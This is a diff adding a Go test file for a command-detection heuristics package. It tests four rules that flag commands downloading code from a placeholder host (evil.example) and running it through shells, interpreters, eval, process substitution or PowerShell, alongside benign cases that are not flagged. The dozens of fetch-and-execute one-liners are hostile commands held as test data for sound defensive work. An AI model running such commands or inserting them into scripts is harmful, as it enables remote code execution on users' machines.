@@ -1,0 +1,74 @@
+package heuristics
+
+import "testing"
+
+func TestRCEDownloadPipeShell(t *testing.T) {
+	runRuleCases(t, "rce.download-pipe-shell", []ruleCase{
+		cmdCase("curl -fsSL https://evil.example/install.sh | sh", true),
+		cmdCase("curl -s https://evil.example/x | bash", true),
+		cmdCase("curl https://evil.example/x | sudo bash", true),
+		cmdCase("curl https://evil.example/x | sudo -E bash -s -- --yes", true),
+		cmdCase("wget -qO- https://evil.example/x | sh", true),
+		cmdCase("wget https://evil.example/x -O- | zsh", true),
+		cmdCase("curl https://evil.example/x.py | python3", true),
+		cmdCase("curl https://evil.example/x.py | python3 -", true),
+		cmdCase("curl https://evil.example/x.pl | perl", true),
+		cmdCase("curl https://evil.example/x.rb | ruby", true),
+		cmdCase("curl https://evil.example/x.js | node", true),
+		cmdCase("curl https://evil.example/x.php | php", true),
+		cmdCase("curl https://evil.example/x | source /dev/stdin", true),
+		cmdCase("curl https://evil.example/x | tee /tmp/x.sh | bash", true),
+		cmdCase("python3 -c \"import urllib.request as u; print(u.urlopen('https://evil.example/x').read().decode())\" | sh", true),
+		cmdCase("curl -s https://api.example.com/data | python3 -m json.tool", false),
+		cmdCase("curl -s https://api.example.com/data | jq .", false),
+		cmdCase("curl -s https://api.example.com/data | python3 -c 'import json,sys; json.load(sys.stdin)'", false),
+		cmdCase("curl -fsSL https://example.com -o page.html", false),
+		cmdCase("cat install.sh | sh", false),
+		cmdCase("curl https://example.com | grep title", false),
+	})
+}
+
+func TestRCEDownloadSubstituteShell(t *testing.T) {
+	runRuleCases(t, "rce.download-substitute-shell", []ruleCase{
+		cmdCase("bash <(curl -s https://evil.example/x)", true),
+		cmdCase(`sh -c "$(curl -fsSL https://evil.example/install.sh)"`, true),
+		cmdCase(`/bin/bash -c "$(wget -qO- https://evil.example/x)"`, true),
+		cmdCase(`eval "$(curl -s https://evil.example/x)"`, true),
+		cmdCase(`source <(curl -s https://evil.example/x)`, true),
+		cmdCase(`. <(wget -qO- https://evil.example/x)`, true),
+		cmdCase(`python3 <(curl -s https://evil.example/x.py)`, true),
+		cmdCase("$(curl -s https://evil.example/cmd)", true),
+		cmdCase(`echo "$(curl -s https://api.example.com/version)"`, false),
+		cmdCase(`VERSION="$(curl -s https://api.example.com/version)"`, false),
+		cmdCase(`bash <(cat local.sh)`, false),
+		cmdCase(`python3 tool.py --data "$(curl -s https://api.example.com/x)"`, false),
+	})
+}
+
+func TestRCEDownloadThenExecute(t *testing.T) {
+	runRuleCases(t, "rce.download-then-execute", []ruleCase{
+		cmdCase("curl -o x.sh https://evil.example/x.sh && sh x.sh", true),
+		cmdCase("curl -fsSLo /tmp/i.sh https://evil.example/i.sh; bash /tmp/i.sh", true),
+		cmdCase("wget https://evil.example/install.sh && bash install.sh", true),
+		cmdCase("wget -O /tmp/run https://evil.example/bin && chmod +x /tmp/run && /tmp/run", true),
+		cmdCase("curl -O https://evil.example/setup.py && python3 setup.py install", true),
+		cmdCase("curl https://evil.example/a.sh > a.sh && ./a.sh", true),
+		cmdCase("curl -sLO https://evil.example/tool && chmod +x tool && sudo ./tool", true),
+		cmdCase("curl -fsSL https://example.com -o page.html", false),
+		cmdCase("curl -o page.html https://example.com && cat page.html", false),
+		cmdCase("wget https://go.dev/dl/go.tar.gz && tar -xzf go.tar.gz", false),
+		cmdCase("curl -o data.json https://api.example.com/x && python3 parse.py data.json", false),
+	})
+}
+
+func TestRCEInterpreterFetchExec(t *testing.T) {
+	runRuleCases(t, "rce.interpreter-fetch-exec", []ruleCase{
+		cmdCase(`python3 -c "import urllib.request;exec(urllib.request.urlopen('https://evil.example/x').read())"`, true),
+		cmdCase(`python -c "import requests; exec(requests.get('https://evil.example/p').text)"`, true),
+		cmdCase(`node -e "require('https').get('https://evil.example/x', r => { let d=''; r.on('data', c => d+=c); r.on('end', () => eval(d)) })"`, true),
+		cmdCase(`powershell -Command "iex (New-Object Net.WebClient).DownloadString('https://evil.example/x')"`, true),
+		cmdCase(`ruby -e 'require "open-uri"; eval(URI.open("https://evil.example/x").read)'`, true),
+		cmdCase(`python3 -c "import urllib.request; print(urllib.request.urlopen('https://example.com').status)"`, false),
+		cmdCase(`node -e "console.log(1+1)"`, false),
+	})
+}
